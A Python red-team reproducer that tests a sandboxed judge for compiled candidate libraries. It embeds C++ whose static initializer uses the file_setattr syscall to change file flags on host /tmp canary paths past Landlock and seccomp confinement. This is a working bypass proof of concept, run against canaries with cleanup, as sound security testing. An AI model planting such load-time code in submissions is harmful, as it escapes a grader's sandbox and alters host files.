"""F1: file_setattr(2) (Linux 6.17, syscall 469) is an unfiltered alias of FS_IOC_FSSETXATTR.

A candidate library's static initializer (uid 0, no capability, Landlock, seccomp: every guard on) calls
file_setattr on paths it may not even open: a canary file and a canary folder the reproducer made under /tmp
(outside every read rule of the candidate). It sets FS_XFLAG_SYNC | NOATIME | NODUMP | DAX | PROJINHERIT:
the sync / nodump class round 10 (f1) closed for the ioctls, by path, past the read confinement too, and
inherited by every file made in the folder later (all of /tmp's scratch dirs, if aimed at /tmp).
Then an honest control in the same judge. Usage: python f1_file_setattr.py
"""
import os
import subprocess
import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
import common  # noqa: E402

CANARY = Path("/tmp/rt12-canary-f1")
ATTACK = common.RESOLVER + r'''
#include <cstdint>
namespace {
struct FileAttr { uint64_t xflags; uint32_t extsize, nextents, projid, cowextsize; };
int poke(const char* path, uint64_t flags) {
  auto call = rt::sc();
  if (!call) return -1;
  FileAttr fa{};
  if (call(468, -100L, path, &fa, 24L, 0L) != 0) return -2;        // file_getattr
  fa.xflags |= flags;
  return (int)call(469, -100L, path, &fa, 24L, 0L);                  // file_setattr
}
int opened(const char* path) { return (int)rt::sc()(2, path, 0L, 0L); }  // open(O_RDONLY): refused by Landlock
struct AtLoad { AtLoad() {
  static const char f[] = "/tmp/rt12-canary-f1/file", d[] = "/tmp/rt12-canary-f1";
  poke(f, 0x20 | 0x40 | 0x80);                  // SYNC NOATIME NODUMP
  poke(d, 0x20 | 0x40 | 0x80 | 0x8000 | 0x200);  // and DAX PROJINHERIT, inherited by what is made in it
} } at_load;
}
'''


def lsattr(p: Path) -> str:
    return subprocess.run(["lsattr", "-d", str(p)], capture_output=True, text=True).stdout.split()[0]


def main() -> None:
    CANARY.mkdir(exist_ok=True)
    (CANARY / "file").write_text("canary\n")
    before = {p.name: lsattr(p) for p in (CANARY, CANARY / "file")}
    cfg = common.config()
    kernels = {"relu.cpp": common.RELU_KERNEL, "relu_binding.cpp": common.RELU_BINDING, "attack.cpp": ATTACK}
    try:
        row = common.run("f1_file_setattr", "attack", common.workspace("f1attack", kernels=kernels), cfg,
                         deserved="1, and no host file changed")
        (CANARY / "made_later").write_text("x\n")
        after = {p.name: lsattr(p) for p in (CANARY, CANARY / "file", CANARY / "made_later")}
        print("flags before:", before, "after:", after, flush=True)
        with open(common.RESULTS, "a") as fh:
            import json
            fh.write(json.dumps({"repro": "f1_file_setattr", "label": "host flags", "before": before,
                                 "after": after}) + "\n")
        common.run("f1_file_setattr", "honest control", common.workspace("f1honest"), cfg, deserved="1")
    finally:
        subprocess.run(["chattr", "-R", "-S", "-A", "-d", "-x", "-P", str(CANARY)], check=False)
        subprocess.run(["rm", "-rf", str(CANARY)], check=False)
        common.shutdown()


if __name__ == "__main__":
    main()
